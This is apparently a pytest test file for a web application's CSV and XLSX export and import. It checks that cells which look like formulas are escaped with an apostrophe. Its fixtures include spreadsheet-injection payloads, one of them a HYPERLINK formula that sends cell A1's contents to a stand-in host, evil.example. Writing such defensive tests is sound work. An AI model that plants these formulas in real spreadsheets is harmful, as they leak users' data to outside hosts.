"""Spreadsheet formula injection in the web downloads and import: the ratings CSV and XLSX and
the oversight CSV and XLSX write a cell beginning like a formula with a leading apostrophe (a
text cell in the XLSX, never a formula); the web import removes exactly that apostrophe, so
a downloaded file uploads back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from maturity.data import assessments
from maturity.domain.csv_format import HEADER
from maturity.domain.roles import MembershipRole
from maturity.domain.spreadsheet_cells import FORMULA_STARTS
from maturity.extensions import db
from maturity.models import AssessmentStatus
from tests import factories
from tests.conftest import page, sign_in

EVIDENCE = {
    "2014": "- the board sees the measures quarterly\n- targets are published",
    "2015": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "2016": "@SUM(1+1)",
    "2017": "'=already quoted once",
}


def _upload(client, data: bytes, slug: str):  # type: ignore[no-untyped-def]
    return client.post(
        f"/organisations/{slug}/import",
        data={"file": (io.BytesIO(data), "ratings.csv")},
        content_type="multipart/form-data",
    )


def _confirm(client, preview, slug: str):  # type: ignore[no-untyped-def]
    html = page(preview)
    form = {n: html.find("input", attrs={"name": n})["value"] for n in ("upload", "fingerprint")}
    return client.post(f"/organisations/{slug}/import/confirm", data=form)


def _evidence(organisation) -> dict[str, set[str]]:  # type: ignore[no-untyped-def]
    db.session.expire_all()
    return {
        assessment.period: {rating.evidence for rating in assessment.ratings}
        for assessment in assessments.for_organisation(organisation=organisation)
    }


@pytest.fixture
def body():  # type: ignore[no-untyped-def]
    organisation = factories.organisation(name="+Plus Body")
    for period, evidence in EVIDENCE.items():
        factories.assessment(
            of=organisation, period=period, evidence=evidence, status=AssessmentStatus.DRAFT
        )
    return organisation


@pytest.fixture
def assessor(client, body):  # type: ignore[no-untyped-def]
    person = factories.member(of=body, role=MembershipRole.ASSESSOR)
    sign_in(client, person.email)
    return person


def test_the_csv_download_escapes_formula_cells_and_uploads_back_unchanged(client, body, assessor):
    response = client.get(f"/organisations/{body.slug}/ratings.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))

    assert ",".join(rows[0]) == HEADER
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert {row[0] for row in rows[1:]} == {"'+Plus Body"}
    # "'=already quoted once" gets one more: "''=already quoted once".
    assert {row[5] for row in rows[1:]} == {"'" + text for text in EVIDENCE.values()}

    preview = _upload(client, response.get_data(), body.slug)
    counts = page(preview).find(id="counts").get_text(" ", strip=True)
    assert "12 unchanged" in counts and "0 changed" in counts and "0 new" in counts


def test_an_uploaded_cell_loses_one_apostrophe_before_a_formula_and_is_stored_as_text(
    client, body, assessor
):
    rows = [
        f"{body.name},2018,developing-a-framework,1,,'=1+1",
        f"'{body.name},2018,reporting-performance-information,1,,''=x",
        f"{body.slug},2018,using-the-framework,1,,'- a bullet",
    ]
    data = ("\n".join((HEADER, *rows)) + "\n").encode()

    response = _confirm(client, _upload(client, data, body.slug), body.slug)

    assert response.status_code == 302
    db.session.expire_all()
    [imported] = [a for a in assessments.for_organisation(organisation=body) if a.period == "2018"]
    assert {r.domain.key: r.evidence for r in imported.ratings} == {
        "developing-a-framework": "=1+1",
        "reporting-performance-information": "'=x",
        "using-the-framework": "- a bullet",
    }


def test_the_xlsx_download_writes_formula_cells_as_text_with_the_apostrophe(client, body, assessor):
    response = client.get(f"/organisations/{body.slug}/ratings.xlsx")
    sheet = load_workbook(io.BytesIO(response.get_data()))["Ratings"]

    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert all(not cell.value.startswith(FORMULA_STARTS) for cell in texts)
    formula = next(cell for cell in texts if "HYPERLINK" in cell.value)
    assert formula.value == "'" + EVIDENCE["2015"]
    assert {cell.value for cell in sheet["A"][1:]} == {"'+Plus Body"}
    # Numbers stay numbers.
    assert {cell.data_type for cell in sheet["D"][1:]} == {"n"}


@pytest.fixture
def overseer(client):  # type: ignore[no-untyped-def]
    department = factories.organisation(name="Department")
    for name in ('=HYPERLINK("http://evil.example","Agency")', "-Minus Body", "@At Body"):
        factories.assessment(of=factories.organisation(name=name, parent=department), period="2018")
    person = factories.member(of=department, role=MembershipRole.VIEWER)
    sign_in(client, person.email)
    return department


def test_the_oversight_csv_escapes_body_names(client, overseer):
    response = client.get(f"/organisations/{overseer.slug}/oversight.csv?period=2018")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))

    names = sorted(row[0] for row in rows[1:])
    assert names == ["'-Minus Body", '\'=HYPERLINK("http://evil.example","Agency")', "'@At Body"]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_the_oversight_xlsx_writes_body_names_as_text_with_the_apostrophe(client, overseer):
    response = client.get(f"/organisations/{overseer.slug}/oversight.xlsx?period=2018")
    book = load_workbook(io.BytesIO(response.get_data()))

    names = [cell for cell in book["Oversight"]["A"][1:]]
    assert sorted(cell.value for cell in names) == [
        "'-Minus Body",
        '\'=HYPERLINK("http://evil.example","Agency")',
        "'@At Body",
    ]
    assert {cell.data_type for cell in names} == {"s"}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)


def test_control_characters_in_evidence_do_not_stop_the_xlsx_download(client):
    """XLSX (XML) cannot hold most control characters; a CSV import can bring one in."""
    body = factories.organisation(name="Control Body")
    factories.assessment(of=body, period="2018", evidence="Bell\x07 and escape\x1b here")
    sign_in(client, factories.member(of=body, role=MembershipRole.VIEWER).email)
    response = client.get(f"/organisations/{body.slug}/ratings.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data()))["Ratings"]
    values = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}
    assert "Bell\ufffd and escape\ufffd here" in values
    assert client.get(f"/organisations/{body.slug}/ratings.csv").status_code == 200
